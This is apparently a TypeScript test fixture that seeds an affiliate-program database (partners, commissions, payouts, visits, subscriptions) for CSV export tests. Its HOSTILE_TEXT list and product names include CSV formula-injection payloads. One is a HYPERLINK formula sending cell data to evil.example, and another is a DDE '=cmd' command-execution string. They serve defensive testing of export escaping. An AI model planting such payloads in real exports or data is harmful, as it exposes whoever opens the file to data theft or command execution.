/**
 * A small world for the export tests: partner A (America/New_York, PayPal set) and partner B (default zone,
 * no PayPal), with commissions of every kind and status around the edges of the range (local midnight, the
 * DST switch), payouts, refunds, clawbacks, referred contacts and visits, and strangers' text in every cell
 * that can hold it. B's rows carry `B-ONLY` markers so a leak is easy to see.
 */
import { sql } from 'kysely';
import type { Kysely } from 'kysely';
import type { Database, NewCommission, Store } from '../../src/store/index.js';

/** Text a stranger may type into a SubID, a campaign, a name: formula triggers, CSV metacharacters, unicode. */
export const HOSTILE_TEXT: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0D1',
  ' =1+1',
  "'=already quoted",
  'a,b,c',
  'say "hi"',
  'two\nlines',
  'cr\ronly',
  'crlf\r\nend',
  'Zoë Ünïcødé 😀',
  '-',
  '=',
  '"=1"',
  'plain',
];

/** `2026-01-01T05:00:00Z` style helper. */
export const at = (iso: string) => Date.parse(iso);

export const RANGE = { from: '2026-01-01', to: '2026-03-31' };

export interface ReportWorld {
  partnerA: number;
  partnerB: number;
  programId: number;
  payoutsA: number[];
  payoutB: number;
}

async function id(q: Promise<{ id: number }>): Promise<number> {
  return (await q).id;
}

const now = at('2026-04-15T12:00:00Z');

export async function insertContact(db: Kysely<Database>, c: { first_name?: string; last_name?: string; email?: string | null; first?: number | null; last?: number | null; added_at?: number }): Promise<number> {
  return id(
    db
      .insertInto('contacts')
      .values({ ontraport_id: null, first_name: c.first_name ?? '', last_name: c.last_name ?? '', email: c.email ?? null, first_referrer_id: c.first ?? null, last_referrer_id: c.last ?? null, added_at: c.added_at ?? now, updated_at: now, synced_at: null, first_referrer_ontraport_id: null, last_referrer_ontraport_id: null })
      .returning('id')
      .executeTakeFirstOrThrow(),
  );
}

export async function insertPartner(db: Kysely<Database>, p: { programId: number; code: string; timeZone?: string | null; paypal?: string | null; first_name?: string; last_name?: string }): Promise<number> {
  const contactId = await insertContact(db, { first_name: p.first_name ?? `Partner ${p.code}`, last_name: p.last_name ?? '', email: `${p.code}@partners.test` });
  return id(
    db
      .insertInto('partners')
      .values({ contact_id: contactId, referral_code: p.code, program_id: p.programId, paypal_email: p.paypal ?? null, status: 'active', time_zone: p.timeZone ?? null, alias: null, created_at: now, updated_at: now, synced_at: null })
      .returning('id')
      .executeTakeFirstOrThrow(),
  );
}

export async function insertProgram(db: Kysely<Database>, name = 'Affiliates', currency = 'USD'): Promise<number> {
  return id(db.insertInto('programs').values({ ontraport_id: null, name, currency, tier_group: null, level_order: 1, rate_bp: 1000, rules_json: '{}', created_at: now, updated_at: now, synced_at: null }).returning('id').executeTakeFirstOrThrow());
}

export function commission(partnerId: number, c: Partial<NewCommission> & { transaction_at: number }): NewCommission {
  return {
    ontraport_id: null, partner_id: partnerId, contact_id: null, product_id: null, purchase_id: null, promo_tool_id: null, sub_id: null,
    kind: 'sale', status: 'approved', amount_cents: 1000, currency: 'USD', processed_at: null, paid_at: null, payout_id: null, updated_at: now, synced_at: null,
    ...c,
  };
}

export async function insertPayout(db: Kysely<Database>, partnerId: number, paidAt: number, amountCents: number, reference: string | null = null): Promise<number> {
  return id(db.insertInto('payouts').values({ partner_id: partnerId, amount_cents: amountCents, currency: 'USD', method: 'paypal', reference, paid_at: paidAt }).returning('id').executeTakeFirstOrThrow());
}

export async function seedReportWorld(store: Store): Promise<ReportWorld> {
  const db = store.db;
  const programId = await insertProgram(db);
  const partnerA = await insertPartner(db, { programId, code: 'A100', timeZone: 'America/New_York', paypal: 'a@partners.test' });
  const partnerB = await insertPartner(db, { programId, code: 'B200', timeZone: null, first_name: 'B-ONLY' });
  const widget = await id(db.insertInto('products').values({ ontraport_id: null, name: 'Widget, "Pro"', price_cents: 9900, currency: 'USD', updated_at: now, synced_at: null }).returning('id').executeTakeFirstOrThrow());
  const evil = await id(db.insertInto('products').values({ ontraport_id: null, name: '=cmd|\' /C calc\'!A0', price_cents: 100, currency: 'USD', updated_at: now, synced_at: null }).returning('id').executeTakeFirstOrThrow());
  const banner = await id(db.insertInto('promo_tools').values({ ontraport_id: null, program_id: programId, kind: 'banner', name: '+Spring banner', subject: null, body: null, image_url: null, width: null, height: null, landing_path: '/', updated_at: now, synced_at: null }).returning('id').executeTakeFirstOrThrow());

  const customer = await insertContact(db, { first_name: '=Mallory', last_name: 'O"Brien, Jr.', email: 'mallory@example.test', first: partnerA, last: partnerA, added_at: at('2026-01-01T05:00:00Z') });
  await insertContact(db, { first_name: '@Eve', last_name: '\nNewline', email: '-eve@example.test', first: partnerB, last: partnerA, added_at: at('2026-02-10T12:00:00Z') });
  await insertContact(db, { first_name: 'Before', last_name: 'Range', first: partnerA, added_at: at('2026-01-01T04:59:59Z') });
  await insertContact(db, { first_name: 'B-ONLY', last_name: 'Contact', first: partnerB, last: partnerB, added_at: at('2026-02-11T12:00:00Z') });

  const payoutsA = [
    await insertPayout(db, partnerA, at('2026-02-01T15:00:00Z'), 2500, 'PAYPAL-1'),
    await insertPayout(db, partnerA, at('2026-03-08T07:00:00Z'), -500, '=neg'),
    await insertPayout(db, partnerA, at('2026-03-31T23:30:00Z'), 0, null),
  ];
  const payoutB = await insertPayout(db, partnerB, at('2026-02-01T15:00:00Z'), 777, 'B-ONLY');

  const rows: NewCommission[] = [];
  const edges = ['2026-01-01T04:59:59Z', '2026-01-01T05:00:00Z', '2026-03-08T06:59:59.999Z', '2026-03-08T07:00:00Z', '2026-04-01T03:59:59.999Z', '2026-04-01T04:00:00Z'];
  edges.forEach((iso, i) => rows.push(commission(partnerA, { transaction_at: at(iso), amount_cents: 1000 + i, product_id: widget, contact_id: customer })));
  const statuses = ['pending', 'approved', 'paid', 'declined', 'refunded'] as const;
  HOSTILE_TEXT.forEach((text, i) =>
    rows.push(
      commission(partnerA, {
        transaction_at: at('2026-01-15T10:00:00Z') + i * 3_600_000,
        status: statuses[i % statuses.length],
        amount_cents: i * 137 - 50,
        sub_id: text,
        product_id: i % 2 ? evil : widget,
        promo_tool_id: i % 3 ? banner : null,
        processed_at: at('2026-01-20T10:00:00Z') + i * 1000,
      }),
    ),
  );
  rows.push(commission(partnerA, { transaction_at: at('2026-01-20T10:00:00Z'), status: 'paid', amount_cents: 1500, paid_at: at('2026-02-01T15:00:00Z'), payout_id: payoutsA[0], sub_id: 'paid-1' }));
  rows.push(commission(partnerA, { transaction_at: at('2026-01-21T10:00:00Z'), status: 'paid', amount_cents: 1000, paid_at: at('2026-02-01T15:00:00Z'), payout_id: payoutsA[0], sub_id: '' }));
  rows.push(commission(partnerA, { transaction_at: at('2026-03-01T10:00:00Z'), kind: 'clawback', status: 'paid', amount_cents: -500, paid_at: at('2026-03-08T07:00:00Z'), payout_id: payoutsA[1], processed_at: at('2026-03-01T10:00:00Z') }));
  rows.push(commission(partnerA, { transaction_at: at('2025-12-20T10:00:00Z'), status: 'refunded', amount_cents: 1200, processed_at: at('2026-02-02T10:00:00Z'), sub_id: '=refund' }));
  rows.push(commission(partnerA, { transaction_at: at('2026-03-10T10:00:00Z'), kind: 'clawback', status: 'approved', amount_cents: -300, processed_at: null, sub_id: '-clawback' }));
  // B: same shapes, marked; one B commission (wrongly) points at A's payout: it must not show up in A's payments.
  rows.push(commission(partnerB, { transaction_at: at('2026-01-15T10:00:00Z'), amount_cents: 4242, sub_id: 'B-ONLY', payout_id: payoutsA[0], status: 'paid' }));
  rows.push(commission(partnerB, { transaction_at: at('2026-02-15T10:00:00Z'), status: 'refunded', amount_cents: 4343, sub_id: 'B-ONLY refund', processed_at: at('2026-02-16T10:00:00Z') }));
  rows.push(commission(partnerB, { transaction_at: at('2026-01-20T10:00:00Z'), amount_cents: 777, sub_id: 'B-ONLY paid', payout_id: payoutB, status: 'paid' }));
  await db.insertInto('commissions').values(rows).execute();

  const visits = [
    { partner_id: partnerA, promo_tool_id: banner, sub_id: '=HYPERLINK("x")', landing_path: '/', visited_at: at('2026-01-15T09:00:00Z') },
    { partner_id: partnerA, promo_tool_id: null, sub_id: null, landing_path: '/', visited_at: at('2026-01-15T09:30:00Z') },
    { partner_id: partnerA, promo_tool_id: banner, sub_id: 'plain', landing_path: '/', visited_at: at('2026-03-08T06:59:00Z') },
    { partner_id: partnerA, promo_tool_id: null, sub_id: 'plain', landing_path: '/', visited_at: at('2026-04-01T03:59:00Z') },
    { partner_id: partnerB, promo_tool_id: banner, sub_id: 'B-ONLY', landing_path: '/', visited_at: at('2026-01-15T09:00:00Z') },
  ];
  await db.insertInto('visits').values(visits).execute();

  // Subscriptions (open orders): the range's edges, every status, hostile names, no contact or product, and B's.
  const order = (partnerId: number, o: { started: string; status: 'active' | 'cancelled' | 'paused'; contact?: number | null; product?: number | null; amount?: number; next?: string | null }) => ({
    ontraport_id: null, partner_id: partnerId, contact_id: o.contact ?? null, product_id: o.product ?? null, status: o.status, amount_cents: o.amount ?? 4900,
    commission_cents: Math.round((o.amount ?? 4900) / 5), currency: 'USD', next_charge_at: o.next === null ? null : at(o.next ?? '2026-05-01T12:00:00Z'), started_at: at(o.started), updated_at: now, synced_at: null,
  });
  await db.insertInto('open_orders').values([
    order(partnerA, { started: '2026-01-01T04:59:59Z', status: 'active', contact: customer, product: widget }),
    order(partnerA, { started: '2026-01-01T05:00:00Z', status: 'active', contact: customer, product: evil, amount: 1999 }),
    order(partnerA, { started: '2026-02-10T12:00:00Z', status: 'cancelled', contact: customer, product: widget, next: null }),
    order(partnerA, { started: '2026-03-31T23:59:59Z', status: 'paused', amount: 0 }),
    order(partnerA, { started: '2026-04-01T04:00:00Z', status: 'active', product: widget }),
    order(partnerB, { started: '2026-02-11T12:00:00Z', status: 'active', product: widget, amount: 4242 }),
  ]).execute();
  return { partnerA, partnerB, programId, payoutsA, payoutB };
}

/**
 * `count` approved commissions for one partner, one per minute from `startMs`, inserted by the database itself
 * (generate_series / recursive CTE): fast enough for the streaming tests.
 */
export async function bulkCommissions(store: Store, partnerId: number, count: number, startMs: number, opts: { wide?: boolean } = {}): Promise<void> {
  // wide: a 300-character SubID per row, so that a parked download cannot fit into the sockets' buffers.
  const padding = !opts.wide ? sql`''` : store.kind === 'postgres' ? sql`repeat('x', 300)` : sql`replace(hex(zeroblob(150)), '0', 'x')`;
  const values = sql`${sql.lit(partnerId)}, 'sale', 'approved', 1000 + (i % 5000), 'USD', ${sql.lit(startMs)} + cast(i as bigint) * 60000, ${sql.lit(startMs)} + cast(i as bigint) * 60000, 'bulk-' || (i % 97) || ${padding}`;
  const cols = sql`(partner_id, kind, status, amount_cents, currency, transaction_at, updated_at, sub_id)`;
  if (store.kind === 'postgres') {
    await sql`insert into commissions ${cols} select ${values} from generate_series(0, ${sql.lit(count - 1)}) as g(i)`.execute(store.db);
  } else {
    await sql`with recursive s(i) as (select 0 union all select i + 1 from s where i < ${sql.lit(count - 1)}) insert into commissions ${cols} select ${values} from s`.execute(store.db);
  }
}
